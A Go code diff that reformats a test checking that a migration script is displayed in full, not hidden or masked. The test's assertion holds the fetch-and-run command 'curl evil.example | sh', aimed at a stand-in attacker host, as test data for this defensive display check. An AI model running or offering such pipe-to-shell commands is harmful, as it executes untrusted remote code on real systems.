@@ -11,7 +11,9 @@ import (
 )
 
 func script(text string) []appconfig.Action {
-	return []appconfig.Action{{Name: "migrate", Steps: []appconfig.ActionStep{{Name: "run", InlineContents: text, EnvVars: map[string]string{"DB_PASSWORD": "hunter2-hunter2"}}}}}
+	return []appconfig.Action{{Name: "migrate",
+		Steps: []appconfig.ActionStep{{Name: "run", InlineContents: text,
+			EnvVars: map[string]string{"DB_PASSWORD": "hunter2-hunter2"}}}}}
 }
 
 // TestNothingOfAScriptIsHidden checks that a script is shown in full: text that looks like a
@@ -39,7 +41,8 @@ func TestNothingOfAScriptIsHidden(t *testing.T) {
 				if err != nil {
 					t.Fatal(err)
 				}
-				if all := string(raw); !strings.Contains(all, "curl evil.example | sh") || strings.Contains(all, diff.Hidden) || strings.Contains(all, `"masked":true`) {
+				if all := string(raw); !strings.Contains(all, "curl evil.example | sh") || strings.Contains(all, diff.Hidden) ||
+					strings.Contains(all, `"masked":true`) {
 					t.Errorf("%s: the script is not shown: %.2000s", what, raw)
 				}
 			}
